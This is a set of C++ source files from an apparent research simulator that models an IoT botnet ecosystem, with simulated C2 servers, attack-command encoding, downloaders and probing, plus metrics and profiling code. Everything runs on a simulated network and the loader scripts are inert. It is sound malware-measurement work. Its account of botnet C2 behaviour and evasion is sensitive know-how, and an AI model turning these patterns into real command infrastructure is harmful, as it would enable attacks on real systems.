/// characters become '_', a leading digit gains a '_' prefix.
[[nodiscard]] std::string prometheus_name(std::string_view name);

/// Escapes a label value: backslash, double quote and newline.
[[nodiscard]] std::string prometheus_label_value(std::string_view value);

/// A labelled trailing window for rate lines, e.g. {"10s", ring.window(...)}.
using ExpositionWindow = std::pair<std::string, SnapshotRing::Window>;

/// Full exposition:
///   - counters    → `# TYPE <n> counter` + total
///   - gauges      → `# TYPE <n> gauge` + level
///   - histograms  → cumulative `_bucket{le=...}` (incl. +Inf), `_sum`,
///                   `_count`, plus estimated `_q{q="0.5"|"0.99"}` lines
///   - per window  → `_rate{window=...}` for counters and histogram counts,
///                   and windowed `_q{q=...,window=...}` estimates
/// All names are prefixed with `prefix` after sanitisation.
[[nodiscard]] std::string render_prometheus(
    const MetricsSnapshot& snap,
    const std::vector<ExpositionWindow>& windows = {},
    std::string_view prefix = "malnet_");

}  // namespace malnet::obs
