// A minimal JSON parser: enough to validate and round-trip the files the
// obs layer emits (metrics snapshots, Chrome traces) without an external
// dependency. Used by the test suite and by `malnetctl json-check` (the CI
// artifact validator). Not a general-purpose parser: no surrogate-pair
// decoding (escapes are preserved verbatim), numbers parsed as double.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace malnet::obs::json {

struct Value {
  enum class Type { kNull, kBool, kNumber, kString, kArray, kObject };

  Type type = Type::kNull;
  bool boolean = false;
  double number = 0.0;
  std::string str;
  std::vector<Value> array;
  std::map<std::string, Value> object;

  [[nodiscard]] bool is_object() const { return type == Type::kObject; }
  [[nodiscard]] bool is_array() const { return type == Type::kArray; }
  [[nodiscard]] bool is_number() const { return type == Type::kNumber; }
  [[nodiscard]] bool is_string() const { return type == Type::kString; }

  /// Object member lookup; nullptr if absent or not an object.
  [[nodiscard]] const Value* find(std::string_view key) const;

  /// Dotted-path lookup ("counters.sandbox_runs"); nullptr if any hop is
  /// missing. Path segments never contain dots (obs metric names use '.'
  /// only below the top-level maps, which this caller quotes per segment —
  /// a segment matches greedily against full member names first).
  [[nodiscard]] const Value* at_path(std::string_view dotted) const;
};

/// Parses a complete JSON document (surrounding whitespace allowed).
/// Returns std::nullopt on any syntax error or trailing garbage.
[[nodiscard]] std::optional<Value> parse(std::string_view text);

/// Like parse(), but on failure also reports the byte offset the parser
/// stopped at (clamped to text.size()). Callers that need line/column
/// context — the profile loader's `malnetctl profile check` — count
/// newlines up to the offset.
[[nodiscard]] std::optional<Value> parse(std::string_view text,
                                         std::size_t* error_offset);

/// Compact serialisation. Object keys render in map order (sorted), so
/// write(parse(x)) is deterministic. Integral numbers print without a
/// fractional part or exponent (Chrome trace "ts"/"dur" fields survive a
/// parse → restamp → write round trip); other numbers use %.17g.
[[nodiscard]] std::string write(const Value& value);

}  // namespace malnet::obs::json
