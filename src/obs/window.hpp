// malnet::obs — windowed metric aggregation.
//
// SnapshotRing keeps a bounded history of timestamped MetricsSnapshots so
// a live endpoint can report 1s/10s/60s *rates and deltas* instead of only
// lifetime totals. The sampler (the admin tick) pushes ~1 Hz; readers
// compute a window by differencing the newest sample against the oldest
// sample still inside the span. Lock usage is one short mutex hold per
// push/read — no instrument hot path goes through here.
//
// Wall-clock is fine in this layer: windows describe the live process, not
// study output, so the DESIGN.md §10 determinism rule does not apply.
#pragma once

#include <cstdint>
#include <deque>
#include <mutex>
#include <optional>

#include "obs/metrics.hpp"

namespace malnet::obs {

class SnapshotRing {
 public:
  /// `capacity` bounds the sample history; at a 1 Hz push cadence the
  /// default comfortably covers a 60s window.
  explicit SnapshotRing(std::size_t capacity = 128);

  /// Appends a sample. `wall_us` must be non-decreasing; a sample older
  /// than the newest one is dropped (clock confusion, not history).
  void push(std::int64_t wall_us, MetricsSnapshot snap);

  struct Window {
    double seconds = 0;     // actual covered span (<= requested)
    MetricsSnapshot delta;  // counter/histogram deltas; gauges = newest level
  };

  /// Difference over (up to) the trailing `span_us`. nullopt until two
  /// samples with distinct timestamps exist. Counters that went backwards
  /// (registry swap) clamp to 0 rather than underflowing.
  [[nodiscard]] std::optional<Window> window(std::int64_t span_us) const;

  [[nodiscard]] std::size_t size() const;

 private:
  mutable std::mutex mu_;
  std::size_t capacity_;
  std::deque<std::pair<std::int64_t, MetricsSnapshot>> samples_;
};

}  // namespace malnet::obs
