// malnet::obs — the per-phase profiler.
//
// The study pipeline is attributed to a small fixed set of phases. Two
// mechanisms feed them:
//
//  * RAII ScopedTimer — wall-clock for code that runs *outside* the event
//    loop (world building / day planning, result finalization, the shard
//    merge).
//  * Scheduler phase tags (sim::EventScheduler::ScopedPhaseTag) — events
//    carry the tag that was ambient when they were scheduled, and firing
//    an event restores its tag, so whole asynchronous causality chains
//    (a liveness probe and every packet it triggers) are attributed to
//    the phase that started them. Per-tag sim-event counts are always on
//    (one array increment per event); per-tag wall-clock attribution costs
//    two clock reads per event and is enabled only under --profile.
//
// ProfileSnapshot carries wall-clock and therefore is NOT part of the
// metrics determinism contract: the sim_events/ops columns are
// deterministic, the wall_ns column is not (see obs/metrics.hpp).
#pragma once

#include <array>
#include <chrono>
#include <cstdint>
#include <string>

namespace malnet::obs {

/// Pipeline stages. Values double as sim::EventScheduler phase tags, so
/// they must stay within the scheduler's tag budget (8).
enum class Phase : std::uint8_t {
  kOther = 0,     // untagged events (infra timers, teardown)
  kCollect = 1,   // feed collection: world building + day planning
  kWorld = 2,     // botnet-world actor events (C2 lifecycle, commands)
  kSandbox = 3,   // observe-mode detonations
  kProbe = 4,     // liveness probing (weaponized runs + DNS resolution)
  kLiveWatch = 5, // restricted 2 h live runs + DDoS detection
  kCampaign = 6,  // the D-PC2 probing campaign
  kFinalize = 7,  // result finalization + metrics harvest
};
inline constexpr std::size_t kPhaseCount = 8;

[[nodiscard]] const char* to_string(Phase p);
[[nodiscard]] constexpr std::size_t phase_index(Phase p) {
  return static_cast<std::size_t>(p);
}

struct PhaseStats {
  std::uint64_t wall_ns = 0;     // attributed wall-clock
  std::uint64_t sim_events = 0;  // scheduler events executed under this phase
  std::uint64_t ops = 0;         // phase-defined operation count (runs, probes)
  std::uint64_t entries = 0;     // ScopedTimer activations

  void merge(const PhaseStats& other) {
    wall_ns += other.wall_ns;
    sim_events += other.sim_events;
    ops += other.ops;
    entries += other.entries;
  }
};

struct ProfileSnapshot {
  std::array<PhaseStats, kPhaseCount> phases{};

  [[nodiscard]] PhaseStats& operator[](Phase p) { return phases[phase_index(p)]; }
  [[nodiscard]] const PhaseStats& operator[](Phase p) const {
    return phases[phase_index(p)];
  }

  void merge(const ProfileSnapshot& other);

  [[nodiscard]] std::uint64_t total_wall_ns() const;
  [[nodiscard]] std::uint64_t total_sim_events() const;

  /// Fixed-width text table (the `malnetctl study --profile` output).
  [[nodiscard]] std::string render_table() const;

  /// Deterministic-shape JSON ({"phases":{"sandbox":{...},...}}); the
  /// wall_ns values inside are wall-clock and vary run to run.
  [[nodiscard]] std::string to_json() const;
};

/// RAII wall-clock accumulator for non-event-loop work.
class ScopedTimer {
 public:
  explicit ScopedTimer(PhaseStats& stats)
      : stats_(stats), t0_(std::chrono::steady_clock::now()) {
    ++stats_.entries;
  }
  ~ScopedTimer() {
    stats_.wall_ns += static_cast<std::uint64_t>(
        std::chrono::duration_cast<std::chrono::nanoseconds>(
            std::chrono::steady_clock::now() - t0_)
            .count());
  }
  ScopedTimer(const ScopedTimer&) = delete;
  ScopedTimer& operator=(const ScopedTimer&) = delete;

 private:
  PhaseStats& stats_;
  std::chrono::steady_clock::time_point t0_;
};

}  // namespace malnet::obs
