#include "obs/expo.hpp"

#include <cmath>
#include <cstdio>
#include <iterator>
#include <sstream>

namespace malnet::obs {

namespace {

constexpr double kQuantiles[] = {0.5, 0.99};
constexpr const char* kQuantileLabels[] = {"0.5", "0.99"};

/// Deterministic double rendering: integral values print without a
/// fractional part, everything else as %.6g (enough for rates and
/// interpolated quantiles, stable across platforms).
std::string fmt_double(double v) {
  if (std::isfinite(v) && v == std::floor(v) && std::fabs(v) < 1e15) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%lld", static_cast<long long>(v));
    return buf;
  }
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.6g", v);
  return buf;
}

void render_histogram_family(std::ostringstream& os, const std::string& base,
                             const HistogramSnapshot& h) {
  os << "# TYPE " << base << " histogram\n";
  std::uint64_t cumulative = 0;
  for (std::size_t i = 0; i < h.bounds.size() && i < h.counts.size(); ++i) {
    cumulative += h.counts[i];
    os << base << "_bucket{le=\"" << h.bounds[i] << "\"} " << cumulative
       << '\n';
  }
  os << base << "_bucket{le=\"+Inf\"} " << h.count << '\n';
  os << base << "_sum " << h.sum << '\n';
  os << base << "_count " << h.count << '\n';
}

void render_quantiles(std::ostringstream& os, const std::string& base,
                      const HistogramSnapshot& h,
                      const std::string& window_label) {
  for (std::size_t i = 0; i < std::size(kQuantiles); ++i) {
    const auto est = h.quantile(kQuantiles[i]);
    if (!est) continue;
    os << base << "_q{q=\"" << kQuantileLabels[i] << '"';
    if (!window_label.empty()) {
      os << ",window=\"" << prometheus_label_value(window_label) << '"';
    }
    os << "} " << fmt_double(*est) << '\n';
  }
}

}  // namespace

std::string prometheus_name(std::string_view name) {
  std::string out;
  out.reserve(name.size() + 1);
  for (const char c : name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_' || c == ':';
    out += ok ? c : '_';
  }
  if (out.empty() || (out[0] >= '0' && out[0] <= '9')) out.insert(0, 1, '_');
  return out;
}

std::string prometheus_label_value(std::string_view value) {
  std::string out;
  out.reserve(value.size());
  for (const char c : value) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      default: out += c;
    }
  }
  return out;
}

std::string render_prometheus(const MetricsSnapshot& snap,
                              const std::vector<ExpositionWindow>& windows,
                              std::string_view prefix) {
  std::ostringstream os;
  const std::string pfx(prefix);
  for (const auto& [name, v] : snap.counters) {
    const std::string base = pfx + prometheus_name(name);
    os << "# TYPE " << base << " counter\n" << base << ' ' << v << '\n';
  }
  for (const auto& [name, v] : snap.gauges) {
    const std::string base = pfx + prometheus_name(name);
    os << "# TYPE " << base << " gauge\n" << base << ' ' << v << '\n';
  }
  for (const auto& [name, h] : snap.histograms) {
    const std::string base = pfx + prometheus_name(name);
    render_histogram_family(os, base, h);
    render_quantiles(os, base, h, "");
  }
  for (const auto& [label, w] : windows) {
    if (w.seconds <= 0) continue;
    const std::string esc = prometheus_label_value(label);
    for (const auto& [name, v] : w.delta.counters) {
      os << pfx << prometheus_name(name) << "_rate{window=\"" << esc << "\"} "
         << fmt_double(static_cast<double>(v) / w.seconds) << '\n';
    }
    for (const auto& [name, h] : w.delta.histograms) {
      const std::string base = pfx + prometheus_name(name);
      os << base << "_count_rate{window=\"" << esc << "\"} "
         << fmt_double(static_cast<double>(h.count) / w.seconds) << '\n';
      render_quantiles(os, base, h, label);
    }
  }
  return os.str();
}

}  // namespace malnet::obs
