// The simulated botnet ecosystem ("the world"): plans a year-long campaign
// population calibrated to the paper's measurements, and drives C2 server
// lifecycle on the simulated internet as the study clock advances.
//
// The generating-process parameters here (C2 lifespans, sharing, AS mix,
// reporting lag, attack plans) are *inputs*; every table/figure number is
// re-measured by running the MalNet pipeline against this world, never
// copied through (DESIGN.md §4 "Calibration, not hard-coding").
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "asdb/asdb.hpp"
#include "botnet/c2server.hpp"
#include "dns/server.hpp"
#include "inetsim/services.hpp"
#include "mal/behavior.hpp"
#include "mal/binary.hpp"
#include "profile/registry.hpp"
#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::botnet {

/// Where a sample was first published (§2.2).
enum class FeedSource { kVirusTotal, kMalwareBazaar };

[[nodiscard]] std::string to_string(FeedSource s);

/// One malware binary as the feeds deliver it: bytes plus feed metadata.
/// Ground-truth fields (family, C2 plan linkage) exist for validation only;
/// the pipeline must not read them.
struct PlannedSample {
  std::string sha256;
  util::Bytes binary;
  std::int64_t first_seen_day = 0;
  FeedSource source = FeedSource::kVirusTotal;
  int vt_detections = 6;  // #AV engines flagging it (>=5 per §2.2)

  // --- ground truth, for tests/validation only ---
  bool truth_corrupt = false;  // damaged download; never activates
  mal::Arch truth_arch = mal::Arch::kMips32;
  proto::Family truth_family = proto::Family::kMirai;
  std::vector<std::string> truth_c2_refs;  // addresses embedded in the binary
};

/// One planned C2 server (an address, its lifecycle and its behaviour).
struct PlannedC2 {
  std::string address;  // dotted quad, or domain name for DNS-based C2s
  C2ServerConfig cfg;
  std::int64_t birth_day = 0;
  int lifetime_days = 1;
  std::uint32_t asn = 0;
  bool attacker = false;   // has a non-empty attack plan
  bool downloader = false; // co-hosts the loader-distribution HTTP service

  [[nodiscard]] std::int64_t death_day() const { return birth_day + lifetime_days; }
  [[nodiscard]] bool alive_on(std::int64_t day) const {
    return day >= birth_day && day < death_day();
  }
};

struct WorldConfig {
  std::uint64_t seed = 22;
  int total_samples = 1447;

  // Family mix (weights; normalised internally). Order matches proto::Family.
  std::vector<double> family_weights{0.40, 0.28, 0.08, 0.06, 0.12, 0.04, 0.02};

  // C2 population shape.
  double dns_c2_fraction = 0.05;       // domains vs raw IPs
  double fallback_ref_prob = 0.95;     // sample embeds a 2nd (fallback) C2
  double zipf_share_exponent = 0.85;   // sample->C2 popularity skew (Fig 5)
  double dedicated_c2_fraction = 0.22; // samples that bring their own server
  int c2_pool_target = 1160;           // distinct C2 addresses (Table 1)

  // Lifecycle (drives Figures 2-4 and the 60% dead-on-arrival finding).
  double lifetime_one_day = 0.55;
  double lifetime_short = 0.25;        // 2-3 days
  double lifetime_mid = 0.12;          // 4-10 days
  // remainder: 11-40 days
  double report_lag_p = 0.35;          // geometric success prob, mean ~1.2 d

  // Elusiveness (Figure 4).
  double accept_prob = 0.50;
  sim::Duration mean_dormancy = sim::Duration::hours(30);

  // Proliferation (D-Exploits / Table 4 / Figures 8-9).
  double exploit_sample_fraction = 0.16;
  int exploit_tasks_min = 2, exploit_tasks_max = 4;
  double downloader_on_c2_prob = 0.75;  // §3.1 co-hosting

  // Attacks (§5: 42 commands, 17 C2s, 20 binaries).
  int attacker_c2_count = 17;
  int attacker_sample_count = 20;

  // Evasion (motivates the InetSim deployment of §2.6a).
  double anti_sandbox_fraction = 0.08;

  // Benign periodic HTTP beacons embedded in some samples (IP-echo /
  // update checks): the classifier must not mistake them for C2s.
  double telemetry_fraction = 0.15;

  // Feed corruption: truncated/damaged downloads that never activate in
  // the sandbox — what keeps the §6f activation rate at ~90%.
  double corrupt_fraction = 0.09;

  // Feed noise: non-MIPS binaries the feeds also deliver (the paper keeps
  // only MIPS-32, §2.2). These ride on top of total_samples and must be
  // filtered out by the pipeline's architecture gate.
  double non_mips_extra_fraction = 0.06;

  // Family profiles. Null means the builtin registry, which reproduces the
  // pre-profile compiled-in behaviour bit-for-bit. Not owned; must outlive
  // the world. `variant_name` optionally routes a fraction of the named
  // profile's family onto that variant profile (data-only families like a
  // fallback-C2 Mirai fork): with a variant configured, each planned C2 of
  // the variant's family flips a `variant_fraction` coin. When no variant
  // is named, no extra RNG draws happen — loading profiles that match the
  // builtins leaves the plan bit-identical.
  const profile::Registry* profiles = nullptr;
  std::string variant_name;
  double variant_fraction = 0.0;

  // Seed-sharded parallel studies (core::ParallelStudy): this world plans
  // only its shard's interleaved slice of the study population — sample
  // slot / C2 birth slot j is materialized iff j % shard_count ==
  // shard_index, and count-valued quotas (attackers, decoys) take their
  // near-even share — so the union over all shards covers every slot of the
  // full plan exactly once and keeps its weekly temporal shape. The default
  // (1, 0) plans the whole study and is bit-identical to the pre-sharding
  // planner.
  int shard_count = 1;
  int shard_index = 0;
};

/// Week layout of the study (Appendix E): 31 active weeks with gaps.
[[nodiscard]] const std::vector<std::int64_t>& active_week_start_days();
/// Per-active-week sample volume (sums to 1447; peak at study week 28).
[[nodiscard]] const std::vector<int>& weekly_sample_volume();

class World {
 public:
  /// Builds the full plan (samples, C2s, attack schedule) deterministically
  /// from cfg.seed and registers the global DNS resolver on `net`.
  World(sim::Network& net, WorldConfig cfg);
  ~World();
  World(const World&) = delete;
  World& operator=(const World&) = delete;

  [[nodiscard]] const WorldConfig& config() const { return cfg_; }
  [[nodiscard]] const asdb::AsDatabase& asdb() const { return asdb_; }
  [[nodiscard]] const std::vector<PlannedSample>& samples() const { return samples_; }
  [[nodiscard]] const std::vector<PlannedC2>& c2_plan() const { return c2s_; }
  [[nodiscard]] net::Endpoint resolver() const;
  /// The resolver actor itself (fault-injection hook-up point).
  [[nodiscard]] dns::DnsServer& resolver_server() { return *resolver_; }

  /// Creates/destroys C2 server actors so the live set matches `day`.
  /// Must be called with non-decreasing day values.
  void advance_to_day(std::int64_t day);

  /// Live server actor for an address (nullptr when dead). Address may be a
  /// dotted quad or a domain.
  [[nodiscard]] C2Server* live_c2(const std::string& address) const;
  [[nodiscard]] std::size_t live_c2_count() const { return live_.size(); }

  /// Visits every live server in address order (deterministic; used by the
  /// fault layer to roll per-day crash decisions).
  template <typename F>
  void for_each_live_c2(F&& f) {
    for (auto& [address, server] : live_) f(address, *server);
  }

  /// Ground truth for validation: was this address's server alive that day?
  [[nodiscard]] bool c2_alive_on(const std::string& address, std::int64_t day) const;
  /// Ground truth planned C2 record (nullptr if unknown address).
  [[nodiscard]] const PlannedC2* find_c2(const std::string& address) const;

  /// All commands issued so far by every C2 that ever lived (survives
  /// server death; used to validate the pipeline's D-DDOS against truth).
  [[nodiscard]] const std::vector<IssuedCommand>& all_issued() const { return issued_log_; }

 private:
  void plan_c2_population(util::Rng& rng);
  void plan_samples(util::Rng& rng);
  void plan_attacks(util::Rng& rng);
  mal::BehaviorSpec make_spec(util::Rng& rng, proto::Family family,
                              const PlannedC2* primary, const PlannedC2* fallback);

  sim::Network& net_;
  WorldConfig cfg_;
  const profile::Registry* registry_;  // never null after construction
  const profile::FamilyProfile* variant_ = nullptr;  // cfg_.variant_name lookup
  asdb::AsDatabase asdb_;
  std::unique_ptr<dns::DnsServer> resolver_;
  std::vector<net::Ipv4> dedicated_downloaders_;
  std::vector<std::unique_ptr<class DownloaderServer>> dl_hosts_;
  std::vector<std::unique_ptr<inetsim::FakeHttp>> telemetry_hosts_;
  std::vector<PlannedC2> c2s_;
  std::vector<PlannedSample> samples_;
  std::map<std::string, std::size_t> c2_index_;  // address -> c2s_ index
  std::map<std::string, std::unique_ptr<C2Server>> live_;
  std::map<std::string, std::map<std::string, std::uint64_t>> downloader_hits_;
  std::vector<std::size_t> birth_order_;  // c2 indices by birth day
  std::size_t next_birth_ = 0;
  std::int64_t current_day_ = -1;
  std::vector<IssuedCommand> issued_log_;
  std::map<std::string, std::size_t> issued_seen_;  // per-live-server drain mark
};

}  // namespace malnet::botnet
