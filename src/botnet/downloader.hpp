// Malware-distribution ("downloader") servers. §3.1: "The downloader and
// C2 servers are often on the same server ... All downloader servers host
// on http port 80." Exploited victims fetch the loader script from here.
#pragma once

#include <cstdint>
#include <map>
#include <string>

#include "sim/network.hpp"

namespace malnet::botnet {

class DownloaderServer : public sim::Host {
 public:
  /// If `addr` already belongs to another host (typically the C2 itself),
  /// construction would collide — callers co-hosting a downloader on a C2
  /// box should instead call attach_to(). This standalone form is for the
  /// minority of downloaders on dedicated boxes.
  DownloaderServer(sim::Network& net, net::Ipv4 addr);

  /// Installs the downloader service (HTTP on port 80) onto an existing
  /// host, e.g. a C2Server. Returns the request counter shared with the
  /// service; the counter outlives nothing — read it before host death.
  static void attach_to(sim::Host& host, std::map<std::string, std::uint64_t>& hits);

  [[nodiscard]] std::uint64_t requests() const { return total_; }
  [[nodiscard]] const std::map<std::string, std::uint64_t>& hits_by_path() const {
    return hits_;
  }

 private:
  std::map<std::string, std::uint64_t> hits_;
  std::uint64_t total_ = 0;
};

/// The loader script body served for `loader_name` — an inert marker
/// script (no real second-stage anything).
[[nodiscard]] std::string loader_script(const std::string& loader_name);

}  // namespace malnet::botnet
