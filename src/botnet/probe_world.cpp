#include "botnet/probe_world.hpp"

#include "util/rng.hpp"

namespace malnet::botnet {

const std::vector<net::Port>& table5_ports() {
  static const std::vector<net::Port> kPorts{1312, 666,  1791, 9506, 606,  6738,
                                             5555, 1014, 3074, 6969, 42516, 81};
  return kPorts;
}

std::vector<net::Endpoint> ProbeWorld::c2_endpoints() const {
  std::vector<net::Endpoint> out;
  out.reserve(c2s.size());
  for (const auto& c2 : c2s) out.push_back(c2->endpoint());
  return out;
}

ProbeWorld build_probe_world(sim::Network& net, const ProbeWorldConfig& cfg) {
  ProbeWorld world;
  util::Rng rng(cfg.seed, util::fnv1a64("probe-world"));

  // 198.18.0.0/15 (RFC 2544 benchmark space): explicitly unrelated to the
  // main study's AS-allocated address plan.
  for (int i = 0; i < cfg.subnet_count; ++i) {
    world.subnets.push_back(
        net::Subnet{net::Ipv4{198, 18, static_cast<std::uint8_t>(i), 0}, 24});
  }

  const auto& ports = table5_ports();
  for (int i = 0; i < cfg.c2_count; ++i) {
    C2ServerConfig sc;
    sc.family = (i % 2 == 0) ? proto::Family::kGafgyt : proto::Family::kMirai;
    const auto& subnet =
        world.subnets[static_cast<std::size_t>(i) % world.subnets.size()];
    sc.ip = subnet.host(static_cast<std::uint32_t>(rng.uniform(10, 250)));
    sc.port = ports[static_cast<std::size_t>(i) % ports.size()];
    sc.accept_prob = cfg.accept_prob;
    sc.mean_dormancy = cfg.mean_dormancy;
    world.c2s.push_back(std::make_unique<C2Server>(
        net, sc, rng.fork("c2" + std::to_string(i))));
  }

  static const std::vector<std::string> kBanners{
      "HTTP/1.1 400 Bad Request\r\nServer: Apache/2.4.41\r\n\r\n",
      "SSH-2.0-OpenSSH_7.4\r\n",
      "HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\n\r\n",
      "220 ProFTPD Server ready.\r\n",
      "SSH-2.0-dropbear_2019.78\r\n",
  };
  for (const auto& subnet : world.subnets) {
    for (int b = 0; b < cfg.banner_hosts_per_subnet; ++b) {
      net::Ipv4 ip;
      bool taken = true;
      while (taken) {
        ip = subnet.host(static_cast<std::uint32_t>(rng.uniform(2, 253)));
        taken = net.host_at(ip) != nullptr;
      }
      world.banners.push_back(std::make_unique<inetsim::BannerHost>(
          net, ip, ports[static_cast<std::size_t>(rng.uniform(0, ports.size() - 1))],
          rng.pick(kBanners)));
    }
  }
  return world;
}

}  // namespace malnet::botnet
