#include "botnet/c2server.hpp"

#include "profile/registry.hpp"
#include "profile/wire.hpp"
#include "proto/irc.hpp"
#include "util/log.hpp"
#include "util/str.hpp"

namespace malnet::botnet {

C2Server::C2Server(sim::Network& net, C2ServerConfig cfg, util::Rng rng)
    : sim::Host(net, cfg.ip, "c2-" + proto::to_string(cfg.family)),
      cfg_(std::move(cfg)),
      profile_(cfg_.profile != nullptr
                   ? cfg_.profile
                   : profile::Registry::builtin().active(cfg_.family)),
      rng_(std::move(rng)) {
  reroll_listening();
  arm_toggle();
}

void C2Server::arm_toggle() {
  // Periodic duty-cycle re-roll for the server's whole lifetime.
  schedule_safe(cfg_.toggle_period, [this]() {
    reroll_listening();
    arm_toggle();
  });
}

void C2Server::reroll_listening() {
  if (dormant_ || crashed_) return;
  force_listening(rng_.chance(cfg_.accept_prob));
}

void C2Server::force_listening(bool on) {
  if (on && !tcp_listening(cfg_.port)) {
    tcp_listen(cfg_.port, [this](sim::TcpConn& conn) { on_accept(conn); });
  } else if (!on && tcp_listening(cfg_.port)) {
    tcp_unlisten(cfg_.port);
  }
}

void C2Server::on_accept(sim::TcpConn& conn) {
  ++sessions_;
  Session session;
  session.serial = next_serial_++;
  sessions_state_[&conn] = session;
  conn.on_data([this](sim::TcpConn& c, util::BytesView data) { on_conn_data(c, data); });
  // Hygiene: peers that never speak the protocol get kicked, freeing the
  // slot (and telling cross-family probes there is nothing for them here).
  sim::TcpConn* conn_ptr = &conn;
  const std::uint64_t serial = session.serial;
  schedule_safe(sim::Duration::minutes(2), [this, conn_ptr, serial]() {
    const auto it = sessions_state_.find(conn_ptr);
    if (it != sessions_state_.end() && it->second.serial == serial &&
        !it->second.registered) {
      sessions_state_.erase(conn_ptr);
      conn_ptr->reset();
    }
  });
  conn.on_close([this](sim::TcpConn& c) {
    const auto it = sessions_state_.find(&c);
    if (it == sessions_state_.end()) return;
    const bool was_registered = it->second.registered;
    sessions_state_.erase(it);
    // Serving a full session tips the server into its cautious cooldown.
    if (was_registered) enter_dormancy();
  });
}

void C2Server::on_conn_data(sim::TcpConn& conn, util::BytesView data) {
  const auto it = sessions_state_.find(&conn);
  if (it == sessions_state_.end()) return;
  Session& s = it->second;

  if (!profile_->is_text_like()) {
    handle_binary(conn, s, data);
    return;
  }
  s.rx_buffer += util::to_string(data);
  std::size_t nl;
  while ((nl = s.rx_buffer.find('\n')) != std::string::npos) {
    std::string line = s.rx_buffer.substr(0, nl);
    s.rx_buffer.erase(0, nl + 1);
    handle_text_line(conn, s, line);
    if (sessions_state_.find(&conn) == sessions_state_.end()) return;  // closed
  }
}

void C2Server::handle_binary(sim::TcpConn& conn, Session& s, util::BytesView data) {
  switch (profile_->framing) {
    case profile::Framing::kBinary: {
      if (const auto hs = profile::wire::decode_handshake(*profile_, data)) {
        register_bot(conn, s, hs->bot_id);
        conn.send(util::BytesView{profile::wire::encode_keepalive()});
      } else if (profile::wire::is_keepalive(data)) {
        conn.send(util::BytesView{profile::wire::encode_keepalive()});
      }
      break;
    }
    case profile::Framing::kTlsBeacon: {
      // TLS-flavoured beacon: any client hello gets a canned server hello.
      if (!s.registered) {
        conn.send(util::BytesView{profile_->tls_server_hello});
        register_bot(conn, s, profile_->tls_peer_id);
      }
      break;
    }
    default:
      break;  // P2P families never reach a TCP C2
  }
}

void C2Server::handle_text_line(sim::TcpConn& conn, Session& s,
                                const std::string& line) {
  switch (profile_->framing) {
    case profile::Framing::kText: {
      if (const auto arg = profile::wire::decode_hello(*profile_, line)) {
        register_bot(conn, s, *arg);
        conn.send(profile::wire::encode_ping(*profile_));
      }
      // PONGs and unknown chatter are ignored.
      break;
    }
    case profile::Framing::kIrc: {
      const auto msg = proto::irc::parse(line);
      if (!msg) return;
      if (msg->command == "NICK" && !msg->params.empty()) {
        s.bot_id = msg->params.front();
      } else if (msg->command == "USER") {
        conn.send(proto::irc::welcome(s.bot_id.empty() ? "bot" : s.bot_id).serialize());
      } else if (msg->command == "JOIN") {
        register_bot(conn, s, s.bot_id.empty() ? "bot" : s.bot_id);
      } else if (msg->command == "PING") {
        conn.send(proto::irc::pong(msg->trailing).serialize());
      }
      break;
    }
    default:
      break;
  }
}

void C2Server::register_bot(sim::TcpConn& conn, Session& s, std::string bot_id) {
  util::log_line(util::LogLevel::kDebug, "c2server",
                 net::to_string(endpoint()) + " register " + bot_id +
                 " plan=" + std::to_string(cfg_.attack_plan.size()));
  if (s.registered) return;
  s.registered = true;
  s.bot_id = std::move(bot_id);
  if (!cfg_.attack_plan.empty()) schedule_attacks(conn);
}

void C2Server::schedule_attacks(sim::TcpConn& conn) {
  // Spread the plan across the bot's session; the pipeline's restricted
  // observation window is 2 h, so everything lands inside it.
  sim::TcpConn* conn_ptr = &conn;
  const std::uint64_t serial = sessions_state_.at(conn_ptr).serial;
  sim::Duration at = sim::Duration::minutes(
      static_cast<std::int64_t>(rng_.uniform(2, 15)));
  for (std::size_t i = 0; i < cfg_.attack_plan.size(); ++i) {
    schedule_safe(at, [this, conn_ptr, serial, i]() {
      // The serial check defeats TcpConn pointer reuse across sessions: a
      // command scheduled for a dead session must never fire on a new one.
      const auto it = sessions_state_.find(conn_ptr);
      if (it == sessions_state_.end() || !it->second.registered ||
          it->second.serial != serial) {
        return;
      }
      if (!conn_ptr->established()) return;
      proto::AttackCommand cmd = cfg_.attack_plan[i];
      cmd.family = cfg_.family;
      switch (profile_->framing) {
        case profile::Framing::kBinary: {
          const auto wire = profile::wire::encode_binary_attack(*profile_, cmd);
          cmd.raw = wire;
          conn_ptr->send(util::BytesView{wire});
          break;
        }
        case profile::Framing::kText: {
          const auto wire = profile::wire::encode_text_attack(*profile_, cmd);
          cmd.raw = util::to_bytes(wire);
          conn_ptr->send(wire);
          break;
        }
        case profile::Framing::kIrc: {
          // A "new variant" (§2.5b): the command rides inside IRC PRIVMSG,
          // outside the three profiled grammars — only the behavioural
          // heuristic can recover it.
          const auto body = profile::wire::encode_text_attack(*profile_, cmd);
          const auto wire = proto::irc::privmsg(
              profile_->irc_channel, body.substr(0, body.size() - 1)).serialize();
          cmd.raw = util::to_bytes(wire);
          conn_ptr->send(wire);
          break;
        }
        default:
          return;  // P2P / tls-beacon servers issue no attacks in the study
      }
      issued_.push_back(IssuedCommand{now(), std::move(cmd)});
    });
    at = at + sim::Duration::minutes(static_cast<std::int64_t>(rng_.uniform(8, 25)));
  }
}

void C2Server::crash(sim::Duration outage) {
  util::log_line(util::LogLevel::kDebug, "c2server",
                 net::to_string(endpoint()) + " crash at " +
                 util::to_string(now()) + " outage=" +
                 std::to_string(outage.us / 1'000'000) + "s");
  ++crashes_;
  crashed_ = true;
  // reset() does not fire the local on_close handler, so the session table
  // must be dropped by hand — and before the aborts, so no handler that
  // does run can observe a half-dead session.
  sessions_state_.clear();
  abort_all_connections();
  force_listening(false);
  schedule_safe(outage, [this]() {
    crashed_ = false;
    reroll_listening();  // no-op if the crash overlapped a dormancy window
  });
}

void C2Server::enter_dormancy() {
  util::log_line(util::LogLevel::kDebug, "c2server",
                 net::to_string(endpoint()) + " dormant at " +
                 util::to_string(now()));
  dormant_ = true;
  force_listening(false);
